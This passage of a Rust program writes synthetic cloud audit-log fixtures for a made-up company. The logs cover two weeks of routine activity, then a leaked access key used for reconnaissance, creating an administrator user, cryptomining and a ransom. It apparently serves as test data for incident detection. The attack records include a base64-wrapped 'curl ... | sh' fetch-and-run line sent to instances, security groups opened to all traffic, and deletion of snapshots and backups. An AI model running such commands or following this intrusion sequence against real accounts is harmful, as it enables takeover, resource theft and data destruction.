//! Writes `fixtures/demo`: two weeks of a made-up company, as its exports would look.
//!
//! Usual work, a few careless acts, one dormant key, one night deployment, and one key
//! that leaks and is used from the first probe to the ransom note. Every id is plainly
//! fake and every public address is one for documentation, except GitHub's own.
//!
//! The program knows neither the clock nor chance: two runs write the same bytes.
//! The first argument is the folder to write to; `README.md` in it is left as it is.

use std::fs;
use std::io::Write;
use std::path::{Path, PathBuf};

use chrono::{DateTime, NaiveDate};
use flate2::{Compression, GzBuilder};
use serde_json::{Map, Value, json};

/// The main account, which is also the uin of its root user.
const ACCOUNT: &str = "100000000001";
const APP_ID: u64 = 1_250_000_001;
/// All local times of the story are this far east of UTC.
const OFFSET_SECONDS: i64 = 8 * 3600;

/// Where the build machines leave the account's network.
const NAT: &str = "203.0.113.10";
const OFFICE: &str = "198.51.100.23";
const ATTACKER: &str = "192.0.2.66";
/// Lies in the range GitHub publishes for its hooks.
const GITHUB: &str = "192.30.252.44";

const CONSOLE_CLIENT: &str = "SDK_NODEJS_0.2.1";
const ATTACK_CLIENT: &str = "SDK_GO_1.0.938";

fn main() {
    let folder = match std::env::args_os().nth(1) {
        Some(folder) => PathBuf::from(folder),
        None => Path::new(option_env!("CARGO_MANIFEST_DIR").unwrap_or(".")).join("fixtures/demo"),
    };
    let mut story = Story::new();
    usual_work(&mut story);
    root_console(&mut story);
    billing_orders(&mut story);
    denied_builds(&mut story);
    test_machines(&mut story);
    new_colleague(&mut story);
    night_deployment(&mut story);
    careless_root(&mut story);
    dormant_key(&mut story);
    leak_is_confirmed(&mut story);
    attack_recon(&mut story);
    attack_guessing(&mut story);
    attack_takeover(&mut story);
    attack_foothold(&mut story);
    attack_ransom(&mut story);
    response(&mut story);
    story.events.sort_by_key(|event| event.at);

    let logs = folder.join("logs");
    let shipped = write_shipped(&logs.join("cos"), &mut story);
    let fetched = write_fetched(&logs.join("tccli/describe-events-root.json"), &story.events);
    let exported = write_exported(&logs.join("console/operation-records.csv"), &story.events);
    write_assets(&folder.join("assets.csv"));
    write_inventory(&folder.join("inventory"));
    let events = story.events.len();
    println!("{events} events: {shipped} shipped, {fetched} fetched, {exported} exported");
}

// ---------------------------------------------------------------- who calls

/// How a caller signs.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Kind {
    RootKey,
    RootConsole,
    /// The account itself, acting for an order; such records have no key and no address.
    RootOrder,
    UserKey,
    UserConsole,
    Service,
}

impl Kind {
    fn is_root(self) -> bool {
        matches!(self, Self::RootKey | Self::RootConsole | Self::RootOrder)
    }

    fn is_console(self) -> bool {
        matches!(self, Self::RootConsole | Self::UserConsole)
    }
}

/// Somebody who calls, and how their calls usually look.
struct Caller {
    kind: Kind,
    uin: &'static str,
    name: &'static str,
    /// What the key ends with.
    key: &'static str,
    ip: &'static str,
    client: &'static str,
}

impl Caller {
    const fn user(
        uin: &'static str,
        name: &'static str,
        key: &'static str,
        ip: &'static str,
        client: &'static str,
    ) -> Self {
        let kind = Kind::UserKey;
        Self {
            kind,
            uin,
            name,
            key,
            ip,
            client,
        }
    }

    const fn console(uin: &'static str, name: &'static str, ip: &'static str) -> Self {
        let (kind, key, client) = (Kind::UserConsole, "", CONSOLE_CLIENT);
        Self {
            kind,
            uin,
            name,
            key,
            ip,
            client,
        }
    }

    const fn root(kind: Kind, ip: &'static str, client: &'static str) -> Self {
        let (uin, name, key) = (ACCOUNT, "root", "rootOwner");
        Self {
            kind,
            uin,
            name,
            key,
            ip,
            client,
        }
    }

    /// The key id the caller signs with at a time: 36 characters, or 68 for a session of a day.
    fn key_at(&self, at: i64) -> String {
        match self.kind {
            Kind::RootKey | Kind::UserKey => permanent_key(self.key),
            Kind::RootOrder => String::new(),
            Kind::RootConsole | Kind::UserConsole | Kind::Service => {
                let owner = self.name.replace(['-', '_'], "");
                let end = format!("{owner}{}", local(at, "%m%d"));
                format!("AKIDEXAMPLEtemporary{end:0>48}")
            }
        }
    }
}

fn permanent_key(end: &str) -> String {
    format!("AKIDEXAMPLE{end:0>25}")
}

static ROOT: Caller = Caller::root(Kind::RootKey, OFFICE, "SDK_PYTHON_3.0.1459; _CLI_3.0.1459");
static ROOT_CONSOLE: Caller = Caller::root(Kind::RootConsole, OFFICE, CONSOLE_CLIENT);
static ROOT_ORDER: Caller = Caller::root(Kind::RootOrder, "", "");
static CI: Caller = Caller::user(
    "100000000011",
    "ci-deploy",
    "ciDeploy",
    NAT,
    "SDK_GO_1.0.1133",
);
static BACKEND: Caller = Caller::user(
    "100000000012",
    "app-backend",
    "appBackend1",
    "203.0.113.21",
    "SDK_GO_1.0.1102",
);
/// The same user with the key made after the attack.
static BACKEND_2: Caller = Caller::user(
    "100000000012",
    "app-backend",
    "appBackend2",
    "203.0.113.21",
    "SDK_GO_1.0.1102",
);
static REPORT: Caller = Caller::user(
    "100000000013",
    "report-export",
    "reportExp",
    "203.0.113.44",
    "SDK_PYTHON_3.0.988",
);
static MEDIA: Caller = Caller::user(
    "100000000014",
    "media-team",
    "mediaTeam",
    "198.51.100.31",
    "cosbrowser/2.11.2",
);
static FLEET: Caller = Caller::user(
    "100000000015",
    "fleet-sync",
    "fleetSync",
    "198.51.100.200",
    "cloud-manager/3.2.0",
);
static MOBILE: Caller = Caller::user(
    "100000000016",
    "mobile-api",
    "mobileApi",
    "203.0.113.22",
    "SDK_JAVA_3.1.1210",
);
/// The user the attacker makes, with the key that comes with it.
static CROSSFIRE: Caller = Caller::user(
    "100000000019",
    "crossfire",
    "crossfire",
    ATTACKER,
    ATTACK_CLIENT,
);
static OPS: Caller = Caller::console("100000000021", "ops-lead", OFFICE);
static DEV: Caller = Caller::console("100000000022", "dev-web", "198.51.100.24");
/// Reaches the console through a proxy, so that only the session knows the address.
static FINANCE: Caller = Caller::console("100000000023", "finance-view", "10.20.200.5");
static INTERN: Caller = Caller::console("100000000024", "intern-qa", "198.51.100.27");
static TKE: Caller = Caller {
    kind: Kind::Service,
    uin: "4611686018400000001",
    name: "TKE_QCSRole",
    key: "",
    ip: "10.20.128.7",
    client: "SDK_GO_1.0.594",
};

// ---------------------------------------------------------------- what is called

/// Why a call failed: the code of the permission check, that of the service, and its words.
struct Failure {
    auth: &'static str,
    code: &'static str,
    message: &'static str,
}

static NOT_AUTHORIZED: Failure = Failure {
    auth: "4101",
    code: "AuthFailure.UnauthorizedOperation",
    message: "you are not authorized to perform this operation",
};
static NOT_GRANTED: Failure = Failure {
    auth: "0",
    code: "UnauthorizedOperation.CamNoAuth",
    message: "CAM signature or authentication error",
};
static NO_SUCH_KEY: Failure = Failure {
    auth: "4104",
    code: "AuthFailure.SecretIdNotFound",
    message: "the SecretId is not found",
};
static SOLD_OUT: Failure = Failure {
    auth: "0",
    code: "ResourceInsufficient.SpecifiedInstanceType",
    message: "the specified instance type is sold out",
};

/// Where a record can be read besides the shipped files, and in what state.
#[derive(Clone, Copy, PartialEq, Eq)]
enum State {
    Usual,
    /// Not shipped: an order of the billing system.
    Order,
    /// Not shipped: the platform's own copy of a call.
    Platform,
    /// Not shipped, and the inner record is no valid JSON.
    Broken,
    /// Shipped, but the line is cut.
    Cut,
}

/// One call.
struct Event {
    at: i64,
    caller: &'static Caller,
    service: &'static str,
    action: &'static str,
    region: &'static str,
    ip: &'static str,
    client: &'static str,
    params: Value,
    reply: Value,
    failure: Option<&'static Failure>,
    id: String,
    state: State,
}

impl Event {
    fn region(&mut self, region: &'static str) -> &mut Self {
        self.region = region;
        self
    }

    fn params(&mut self, params: Value) -> &mut Self {
        self.params = params;
        self
    }

    fn reply(&mut self, reply: Value) -> &mut Self {
        self.reply = reply;
        self
    }

    fn failed(&mut self, failure: &'static Failure) -> &mut Self {
        self.failure = Some(failure);
        self
    }

    fn state(&mut self, state: State) -> &mut Self {
        self.state = state;
        self
    }

    fn is_read(&self) -> bool {
        const READS: [&str; 7] = [
            "Describe", "Get", "List", "Query", "Check", "Search", "Head",
        ];
        READS.iter().any(|start| self.action.starts_with(start))
    }

    fn is_shipped(&self) -> bool {
        let tracked = self.at >= time(2, "15:00:00");
        tracked && matches!(self.state, State::Usual | State::Cut)
    }
}

/// Splitmix64: small, and the same everywhere.
struct Random(u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut mixed = self.0;
        mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        mixed ^ (mixed >> 31)
    }

    fn below(&mut self, end: usize) -> usize {
        let end = u64::try_from(end).expect("lengths fit into 64 bits");
        usize::try_from(self.next() % end).expect("the rest is below a usize")
    }

    fn pick<T: Copy>(&mut self, from: &[T]) -> T {
        from[self.below(from.len())]
    }

    fn uuid(&mut self) -> String {
        let hex = format!("{:016x}{:016x}", self.next(), self.next());
        let (a, b, c) = (&hex[..8], &hex[8..12], &hex[13..16]);
        format!("{a}-{b}-4{c}-8{}-{}", &hex[17..20], &hex[20..])
    }
}

/// All calls so far, in the order they were thought of.
struct Story {
    random: Random,
    events: Vec<Event>,
}

impl Story {
    fn new() -> Self {
        Self {
            random: Random(0x00ab_cdef),
            events: Vec::new(),
        }
    }

    /// Adds a call of `service:Action`; what is unusual about it is set on the returned event.
    fn call(&mut self, at: i64, caller: &'static Caller, api: &'static str) -> &mut Event {
        let (service, action) = api.split_once(':').expect("written as service:Action");
        let event = Event {
            at,
            caller,
            service,
            action,
            region: "ap-guangzhou",
            ip: caller.ip,
            client: caller.client,
            params: json!({"Limit": 20, "Offset": 0}),
            reply: json!({}),
            failure: None,
            id: self.random.uuid(),
            state: State::Usual,
        };
        self.events.push(event);
        self.events.last_mut().expect("one was just added")
    }

    /// Adds a call from the attacker's machine.
    fn attack(&mut self, clock: &str, caller: &'static Caller, api: &'static str) -> &mut Event {
        let event = self.call(time(11, clock), caller, api);
        event.ip = ATTACKER;
        event.client = ATTACK_CLIENT;
        event
    }
}

/// Returns a local time of March 2026 in seconds of the epoch.
fn time(day: u32, clock: &str) -> i64 {
    let date = NaiveDate::from_ymd_opt(2026, 3, day).expect("a day of March");
    let naive = format!("{date} {clock}");
    let parsed = chrono::NaiveDateTime::parse_from_str(&naive, "%Y-%m-%d %H:%M:%S");
    parsed
        .expect("a time written as HH:MM:SS")
        .and_utc()
        .timestamp()
        - OFFSET_SECONDS
}

fn local(at: i64, format: &str) -> String {
    let shifted = DateTime::from_timestamp(at + OFFSET_SECONDS, 0).expect("a time of the story");
    shifted.format(format).to_string()
}

// ---------------------------------------------------------------- usual work

/// What somebody does day by day.
struct Habit {
    caller: &'static Caller,
    /// First and last time: day of March and hour.
    span: [(u32, u32); 2],
    /// Calls on a working day and on a day of the weekend.
    calls: [usize; 2],
    /// First hour of the day, and the first that is too late.
    hours: [usize; 2],
    apis: &'static [&'static str],
}

const WHOLE: [(u32, u32); 2] = [(2, 0), (15, 23)];

static HABITS: [Habit; 11] = [
    Habit {
        caller: &CI,
        span: WHOLE,
        calls: [48, 0],
        hours: [9, 20],
        apis: &[
            "cvm:DescribeInstances",
            "cvm:DescribeImages",
            "tke:DescribeClusters",
            "tke:DescribeClusterInstances",
            "tke:DescribeClusterNodePools",
            "cos:HeadBucket",
            "cos:GetBucket",
            "monitor:GetMonitorData",
            "tke:ModifyClusterNodePool",
            "tke:UpdateAddon",
            "cos:PutBucketTagging",
            "cvm:RebootInstances",
        ],
    },
    Habit {
        caller: &BACKEND,
        span: [(2, 0), (11, 9)],
        calls: [34, 22],
        hours: [0, 24],
        apis: BACKEND_APIS,
    },
    Habit {
        caller: &BACKEND_2,
        span: [(11, 10), (15, 23)],
        calls: [34, 22],
        hours: [0, 24],
        apis: BACKEND_APIS,
    },
    Habit {
        caller: &MOBILE,
        span: [(9, 9), (15, 23)],
        calls: [10, 6],
        hours: [7, 23],
        apis: &[
            "cos:HeadBucket",
            "redis:DescribeInstances",
            "monitor:GetMonitorData",
        ],
    },
    Habit {
        caller: &TKE,
        span: WHOLE,
        calls: [24, 16],
        hours: [0, 24],
        apis: &[
            "cvm:DescribeInstances",
            "vpc:DescribeSubnets",
            "vpc:DescribeNetworkInterfaces",
            "vpc:AssignPrivateIpAddresses",
            "cbs:AttachDisks",
            "clb:DescribeLoadBalancers",
            "clb:CreateLoadBalancer",
            "clb:DeleteLoadBalancer",
        ],
    },
    Habit {
        caller: &OPS,
        span: WHOLE,
        calls: [16, 2],
        hours: [9, 19],
        apis: &[
            "cvm:DescribeInstances",
            "cam:ListUsers",
            "cam:GetPolicy",
            "clb:RegisterTargets",
            "clb:DescribeLoadBalancers",
            "monitor:CreateAlarmPolicy",
            "cbs:CreateSnapshot",
            "vpc:DescribeSecurityGroups",
            "cloudaudit:DescribeEvents",
        ],
    },
    Habit {
        caller: &DEV,
        span: WHOLE,
        calls: [14, 1],
        hours: [10, 20],
        apis: &[
            "tke:DescribeClusters",
            "cls:SearchLog",
            "cdn:PurgePathCache",
            "scf:ListFunctions",
            "cdb:DescribeDBInstances",
            "cvm:RebootInstances",
        ],
    },
    Habit {
        caller: &FINANCE,
        span: WHOLE,
        calls: [5, 0],
        hours: [9, 18],
        apis: &[
            "billing:DescribeBillSummaryByProduct",
            "billing:DescribeAccountBalance",
        ],
    },
    Habit {
        caller: &INTERN,
        span: [(4, 15), (15, 23)],
        calls: [6, 0],
        hours: [10, 19],
        apis: &[
            "tke:DescribeClusters",
            "cls:SearchLog",
            "monitor:GetMonitorData",
        ],
    },
    Habit {
        caller: &MEDIA,
        span: [(3, 9), (5, 23)],
        calls: [8, 0],
        hours: [10, 18],
        apis: &[
            "cos:GetService",
            "cos:HeadBucket",
            "cos:GetBucketCORS",
            "cos:PutBucketTagging",
        ],
    },
    Habit {
        caller: &FLEET,
        span: [(9, 9), (10, 20)],
        calls: [12, 0],
        hours: [9, 18],
        apis: &[
            "cvm:DescribeInstances",
            "cbs:DescribeDisks",
            "clb:DescribeLoadBalancers",
        ],
    },
];

static BACKEND_APIS: &[&str] = &[
    "cos:HeadBucket",
    "ssm:GetSecretValue",
    "cls:SearchLog",
    "redis:DescribeInstances",
    "cdb:DescribeDBInstances",
    "monitor:GetMonitorData",
];

fn usual_work(story: &mut Story) {
    for habit in &HABITS {
        let [first, last] = habit
            .span
            .map(|(day, hour)| time(day, &format!("{hour:02}:00:00")));
        for day in 2..=15 {
            let weekend = matches!(day, 7 | 8 | 14 | 15);
            for _ in 0..habit.calls[usize::from(weekend)] {
                let hour = habit.hours[0] + story.random.below(habit.hours[1] - habit.hours[0]);
                let [minute, second] = [60, 60].map(|end| story.random.below(end));
                let at = time(day, &format!("{hour:02}:{minute:02}:{second:02}"));
                if (first..last).contains(&at) {
                    usual_call(story, habit, at);
                }
            }
        }
    }
    // A file that was still being written when it was copied.
    let cut = story.events.iter_mut().find(|event| {
        event.caller.name == "ci-deploy" && event.is_read() && event.at > time(6, "15:00:00")
    });
    cut.expect("builds run on Friday").state = State::Cut;
}

fn usual_call(story: &mut Story, habit: &Habit, at: i64) {
    let api = story.random.pick(habit.apis);
    let number = story.random.below(4) + 1;
    let regions = [
        "ap-guangzhou",
        "ap-guangzhou",
        "ap-guangzhou",
        "ap-shanghai",
    ];
    let region = story.random.pick(&regions);
    let event = story.call(at, habit.caller, api).region(region);
    let params = match (event.service, event.is_read()) {
        ("cos", _) => json!({"Bucket": format!("site-assets-{APP_ID}")}),
        (_, true) => json!({"Limit": 20, "Offset": 20 * (number - 1)}),
        ("cvm" | "cbs", false) => json!({"InstanceIds": [format!("ins-demo000{number}")]}),
        (_, false) => json!({"Name": format!("shop-{number}"), "Comment": "usual work"}),
    };
    event.params(params);
}

/// The owner looks around in the console, and switches the tracking set on.
fn root_console(story: &mut Story) {
    story.call(
        time(2, "14:52:10"),
        &ROOT_CONSOLE,
        "cloudaudit:DescribeAuditTracks",
    );
    story
        .call(
            time(2, "14:57:41"),
            &ROOT_CONSOLE,
            "cloudaudit:CreateAuditTrack",
        )
        .params(json!({
            "ActionType": "*", "EventNames": ["*"], "Name": "all-to-cos", "ResourceType": "*",
            "Status": 1, "Storage": {"StorageType": "cos", "StorageRegion": "ap-guangzhou",
                "StorageName": format!("audit-{APP_ID}"), "StoragePrefix": "logs"}
        }));
    for (day, clock) in [
        (4, "10:05:12"),
        (6, "14:02:30"),
        (9, "09:40:05"),
        (13, "16:20:44"),
    ] {
        let at = time(day, clock);
        story.call(at, &ROOT_CONSOLE, "billing:DescribeAccountBalance");
        story.call(at + 35, &ROOT_CONSOLE, "cam:ListUsers");
    }
}

fn billing_orders(story: &mut Story) {
    for (day, clock) in [(3, "00:05:00"), (8, "00:05:00"), (12, "00:05:01")] {
        let order = story.call(time(day, clock), &ROOT_ORDER, "cvm:RenewInstances");
        order.params(Value::Null).state(State::Order);
    }
}

// ---------------------------------------------------------------- what stands out, yet is harmless

/// A build asks for something its policies do not name.
fn denied_builds(story: &mut Story) {
    for clock in ["10:14:08", "10:14:39"] {
        let denied = story.call(time(3, clock), &CI, "monitor:DescribeAlarmPolicies");
        denied.failed(&NOT_GRANTED);
    }
}

fn test_machines(story: &mut Story) {
    for (day, clock) in [(3, "11:30:00"), (9, "15:10:25")] {
        run_instances(story, time(day, clock), &CI, "S5.MEDIUM4");
    }
}

fn run_instances(story: &mut Story, at: i64, caller: &'static Caller, kind: &str) {
    let number = story.random.below(90) + 10;
    story
        .call(at, caller, "cvm:RunInstances")
        .params(json!({
            "InstanceType": kind, "InstanceCount": 1, "ImageId": "img-demo0001",
            "InstanceName": "build-test", "Placement": {"Zone": "ap-guangzhou-3"}
        }))
        .reply(json!({"InstanceIdSet": [format!("ins-demo01{number}")]}));
}

/// A sub-user is made in the console and may read, nothing else.
fn new_colleague(story: &mut Story) {
    let uin: u64 = 100_000_000_024;
    let made = story.call(time(4, "14:31:50"), &OPS, "cam:AddUser");
    made.params(json!({"Name": "intern-qa", "ConsoleLogin": 1, "UseApi": 0}));
    made.reply(json!({"Uin": uin, "Name": "intern-qa", "Uid": 9_000_024}));
    let granted = story.call(time(4, "14:33:02"), &OPS, "cam:AttachUserPolicy");
    granted.params(json!({"AttachUin": uin, "PolicyId": 2, "PolicyName": "ReadOnlyAccess"}));
}

/// Test machines are thrown away and built anew, from before midnight until after it.
fn night_deployment(story: &mut Story) {
    let start = time(5, "23:30:12");
    for round in 0..6 {
        let at = start + round * 560;
        let id = format!("ins-demo009{round}");
        story
            .call(at, &CI, "cvm:DescribeInstances")
            .params(json!({"InstanceIds": [id.clone()]}));
        story
            .call(at + 20, &CI, "cvm:TerminateInstances")
            .params(json!({"InstanceIds": [id]}));
        run_instances(story, at + 140, &CI, "S5.MEDIUM4");
        story.call(at + 200, &CI, "cvm:DescribeInstancesStatus");
    }
}

/// The owner tidies up users on the command line, with the root key.
fn careless_root(story: &mut Story) {
    story
        .call(time(6, "14:11:20"), &ROOT, "cam:ListUsers")
        .state(State::Broken);
    let old = json!({"TargetUin": 100_000_000_017_u64});
    story
        .call(time(6, "14:12:48"), &ROOT, "cam:ListAccessKeys")
        .params(old);
    let delete = json!({"Name": "old-contractor", "Force": 1});
    story
        .call(time(6, "14:14:03"), &ROOT, "cam:DeleteUser")
        .params(delete.clone());
    let copy = story.call(time(6, "14:14:03"), &ROOT, "cam:DeleteUser");
    copy.params(delete).state(State::Platform);
    let made = story.call(time(6, "14:19:36"), &ROOT, "cam:CreateAccessKey");
    made.params(json!({"TargetUin": 100_000_000_016_u64, "Description": "mobile"}));
    made.reply(new_key("mobileApi", "2026-03-06 14:19:36"));
}

fn new_key(end: &str, created: &str) -> Value {
    json!({"AccessKey": {"AccessKeyId": permanent_key(end), "Status": "Active",
        "SecretAccessKey": "EXAMPLEnotASecret000000000000000", "CreateTime": created}})
}

/// A report that nobody has asked for since January runs again.
fn dormant_key(story: &mut Story) {
    for (day, clock) in [(7, "11:05:31"), (8, "11:05:29")] {
        let at = time(day, clock);
        story.call(at, &REPORT, "billing:DescribeBillSummaryByProduct");
        story.call(at + 4, &REPORT, "cls:SearchLog");
        story.call(at + 9, &REPORT, "cos:HeadBucket");
    }
}

// ---------------------------------------------------------------- the attack

/// The key was pushed to a public repository; GitHub asks whether it is a live one.
fn leak_is_confirmed(story: &mut Story) {
    let check = story.call(time(10, "17:42:18"), &BACKEND, "sts:GetCallerIdentity");
    check.params(json!({}));
    check.ip = GITHUB;
    check.client = "";
}

const REGIONS: [&str; 12] = [
    "ap-guangzhou",
    "ap-shanghai",
    "ap-nanjing",
    "ap-beijing",
    "ap-chengdu",
    "ap-chongqing",
    "ap-hongkong",
    "ap-singapore",
    "ap-tokyo",
    "ap-jakarta",
    "na-ashburn",
    "eu-frankfurt",
];

/// Who am I, what is here, in every region: what a listing tool does.
fn attack_recon(story: &mut Story) {
    story.attack("02:10:07", &BACKEND, "sts:GetCallerIdentity");
    story.attack("02:11:02", &BACKEND, "cos:GetService");
    story.attack("02:11:05", &BACKEND, "cvm:DescribeRegions");
    for (second, region) in (6..).zip(REGIONS) {
        let clock = format!("02:11:{second:02}");
        story
            .attack(&clock, &BACKEND, "cvm:DescribeInstances")
            .region(region);
    }
    story.attack("02:11:20", &BACKEND, "lighthouse:DescribeRegions");
    for (second, region) in (21..).zip(&REGIONS[..5]) {
        let clock = format!("02:11:{second:02}");
        story
            .attack(&clock, &BACKEND, "lighthouse:DescribeInstances")
            .region(region);
    }
    story.attack("02:11:31", &BACKEND, "cam:ListUsers");
    story.attack("02:11:33", &BACKEND, "cam:DescribeRoleList");
    story.attack("02:12:10", &BACKEND, "cdb:DescribeDBInstances");
    story.attack("02:12:12", &BACKEND, "redis:DescribeInstances");
    story.attack("02:12:15", &BACKEND, "vpc:DescribeVpcs");
    story.attack("02:12:17", &BACKEND, "tke:DescribeClusters");
    for (clock, uin) in [("02:14:10", 11), ("02:14:12", 12), ("02:14:13", 13)] {
        let target = json!({"TargetUin": 100_000_000_000_u64 + uin});
        story
            .attack(clock, &BACKEND, "cam:ListAccessKeys")
            .params(target);
    }
}

/// What else may this key do? Nothing of this, as the answers say.
fn attack_guessing(story: &mut Story) {
    const TRIED: [&str; 11] = [
        "kms:ListKeys",
        "ssm:ListSecrets",
        "scf:ListFunctions",
        "organization:DescribeOrganization",
        "cls:DescribeTopics",
        "tcr:DescribeInstances",
        "es:DescribeInstances",
        "ckafka:DescribeInstances",
        "cloudaudit:DeleteAuditTrack",
        "cbs:DeleteSnapshots",
        "tke:DescribeClusterKubeconfig",
    ];
    for (number, api) in (0..22_usize).zip(TRIED.into_iter().cycle()) {
        let (minute, second) = (16 + number / 11, number % 11 * 5);
        let clock = format!("02:{minute}:{second:02}");
        let failure = if number % 3 == 0 {
            &NOT_GRANTED
        } else {
            &NOT_AUTHORIZED
        };
        story.attack(&clock, &BACKEND, api).failed(failure);
    }
}

/// The key may manage users, which is enough: a new administrator with a key of its own.
fn attack_takeover(story: &mut Story) {
    let uin: u64 = 100_000_000_019;
    let made = story.attack("02:22:11", &BACKEND, "cam:AddUser");
    made.params(json!({"Name": "crossfire", "ConsoleLogin": 1, "UseApi": 1,
        "Password": "Example-Passw0rd", "NeedResetPassword": 0}));
    made.reply(json!({"Uin": uin, "Name": "crossfire", "Uid": 9_000_019,
        "Password": "Example-Passw0rd", "SecretId": permanent_key("crossfire"),
        "SecretKey": "EXAMPLEnotASecret000000000000000"}));
    let name = json!({"Name": "crossfire"});
    story
        .attack("02:22:14", &BACKEND, "cam:GetUser")
        .params(name);
    let grant = json!({"AttachUin": uin, "PolicyId": 1});
    story
        .attack("02:22:19", &BACKEND, "cam:AttachUserPolicy")
        .params(grant);
    story
        .attack("02:22:25", &BACKEND, "cam:GetUserAppId")
        .params(json!({}));
}

/// The new user runs commands on the machines, opens ports and buys machines for mining.
fn attack_foothold(story: &mut Story) {
    story.attack("02:24:20", &CROSSFIRE, "cvm:DescribeRegions");
    story.attack("02:24:31", &CROSSFIRE, "cvm:DescribeInstances");
    let script = "#!/bin/sh\ncurl -fsS http://192.0.2.66/setup.sh | sh\n";
    story
        .attack("02:26:05", &CROSSFIRE, "tat:RunCommand")
        .params(json!({
            "CommandType": "SHELL", "Content": base64(script.as_bytes()), "Timeout": 60,
            "InstanceIds": ["ins-demo0001", "ins-demo0002", "ins-demo0003"]
        }))
        .reply(json!({"CommandId": "cmd-demo0001", "InvocationId": "inv-demo0001"}));
    story.attack("02:26:12", &CROSSFIRE, "tat:DescribeInvocationTasks");
    story
        .attack("02:29:40", &CROSSFIRE, "tke:DescribeClusterKubeconfig")
        .params(json!({"ClusterId": "cls-demo0001"}));
    story
        .attack("02:31:02", &CROSSFIRE, "vpc:CreateSecurityGroupPolicies")
        .params(json!({
            "SecurityGroupId": "sg-demo0001", "SecurityGroupPolicySet": {"Ingress": [
                {"Protocol": "ALL", "Port": "ALL", "CidrBlock": "0.0.0.0/0", "Action": "ACCEPT"}]}
        }));
    let regions = ["ap-guangzhou", "ap-hongkong", "ap-singapore"];
    for (clock, region) in ["02:33:15", "02:33:19", "02:33:24"]
        .into_iter()
        .zip(regions)
    {
        let buy = story
            .attack(clock, &CROSSFIRE, "cvm:RunInstances")
            .region(region);
        buy.params(
            json!({"InstanceType": "GN7.20XLARGE320", "InstanceCount": 10,
            "ImageId": "img-demo0002", "InstanceChargeType": "POSTPAID_BY_HOUR",
            "UserData": base64(b"#!/bin/sh\n# starts a miner\n")}),
        );
        if region == "ap-hongkong" {
            buy.failed(&SOLD_OUT);
        } else {
            buy.reply(json!({"InstanceIdSet": ["ins-demo0201", "ins-demo0202"]}));
        }
    }
}

/// First the copies are deleted, then the originals; a bucket's name is the ransom note.
fn attack_ransom(story: &mut Story) {
    story.attack("02:41:00", &CROSSFIRE, "cbs:DescribeSnapshots");
    for (clock, snapshot) in [("02:41:20", "snap-demo0001"), ("02:41:22", "snap-demo0002")] {
        let which = json!({"SnapshotIds": [snapshot]});
        story
            .attack(clock, &CROSSFIRE, "cbs:DeleteSnapshots")
            .params(which);
    }
    let database = json!({"InstanceId": "cdb-demo0001"});
    story
        .attack("02:43:47", &CROSSFIRE, "cdb:IsolateDBInstance")
        .params(database);
    let machines = json!({"InstanceIds": ["ins-demo0002", "ins-demo0003"]});
    story
        .attack("02:45:05", &CROSSFIRE, "cvm:TerminateInstances")
        .params(machines);
    let backups = json!({"Bucket": format!("backup-{APP_ID}")});
    story
        .attack("02:47:31", &CROSSFIRE, "cos:DeleteBucket")
        .params(backups);
    let note = json!({"Bucket": format!("pay-to-restore-{APP_ID}")});
    story
        .attack("02:52:10", &CROSSFIRE, "cos:PutBucket")
        .params(note);
}

/// In the morning the key is switched off, the user is deleted, and the service gets a new key.
fn response(story: &mut Story) {
    let day = 11;
    story
        .call(time(day, "09:12:05"), &OPS, "cam:UpdateAccessKey")
        .params(json!({
            "TargetUin": 100_000_000_012_u64, "AccessKeyId": permanent_key("appBackend1"),
            "Status": "Inactive"
        }));
    let grant = json!({"DetachUin": 100_000_000_019_u64, "PolicyId": 1});
    story
        .call(time(day, "09:14:41"), &OPS, "cam:DetachUserPolicy")
        .params(grant);
    let user = json!({"Name": "crossfire", "Force": 1});
    story
        .call(time(day, "09:15:20"), &OPS, "cam:DeleteUser")
        .params(user);
    let miners = json!({"InstanceIds": ["ins-demo0201", "ins-demo0202"]});
    story
        .call(time(day, "09:22:37"), &OPS, "cvm:TerminateInstances")
        .params(miners);
    let made = story.call(time(day, "09:41:10"), &OPS, "cam:CreateAccessKey");
    made.params(
        json!({"TargetUin": 100_000_000_012_u64, "Description": "replaces the leaked one"}),
    );
    made.reply(new_key("appBackend2", "2026-03-11 09:41:10"));
    story
        .attack("21:07:50", &BACKEND, "sts:GetCallerIdentity")
        .failed(&NO_SUCH_KEY);
}

fn base64(bytes: &[u8]) -> String {
    const LETTERS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut text = String::new();
    for chunk in bytes.chunks(3) {
        let group = (0..3).fold(0, |sum, at| {
            sum << 8 | u32::from(*chunk.get(at).unwrap_or(&0))
        });
        for at in 0..4 {
            let letter = LETTERS[(group >> (18 - 6 * at)) as usize & 63];
            text.push(if at > chunk.len() {
                '='
            } else {
                char::from(letter)
            });
        }
    }
    text
}

// ---------------------------------------------------------------- how a record looks

/// Returns the record as the API gives it. What is shipped is the same with less in it.
fn record(event: &Event) -> Map<String, Value> {
    let failure = event.failure;
    let auth = failure.map_or("0", |failure| failure.auth);
    let code = failure.map_or(json!(0), |failure| json!(failure.code));
    let mut reply = event.reply.clone();
    reply["RequestId"] = json!(event.id);
    let params = match &event.params {
        Value::Null => String::new(),
        params => params.to_string(),
    };
    let record = json!({
        "userIdentity": identity(event),
        "eventRegion": event.region,
        "eventVersion": 2,
        "errorCode": auth,
        "errorMessage": if event.caller.kind.is_console() { "" } else { "permission verify" },
        "requestID": event.id,
        "eventID": event.id,
        "apiVersion": "3.0",
        "eventType": if event.caller.kind.is_console() { "ConsoleCall" } else { "ApiCall" },
        "actionType": if event.is_read() { "Read" } else { "Write" },
        "httpMethod": "POST",
        "apiErrorCode": code,
        "apiErrorMessage": failure.map_or("", |failure| failure.message),
        "userAgent": event.client,
        "eventTime": event.at,
        "sourceIPAddress": event.ip,
        "eventSource": host(event),
        "resources": "[\"*\"]",
        "resourceName": "",
        "resourceSet": [],
        "requestParameters": params,
        "responseElements": if failure.is_some() { "{}".to_owned() } else { reply.to_string() },
        "resourceType": event.service,
        "eventName": event.action,
        "sensitiveAction": if event.is_read() { "0" } else { "1" },
        "eventPlatform": if event.state == State::Platform { "1" } else { "0" },
        "tags": [""],
    });
    match record {
        Value::Object(record) => record,
        _ => unreachable!("an object was written above"),
    }
}

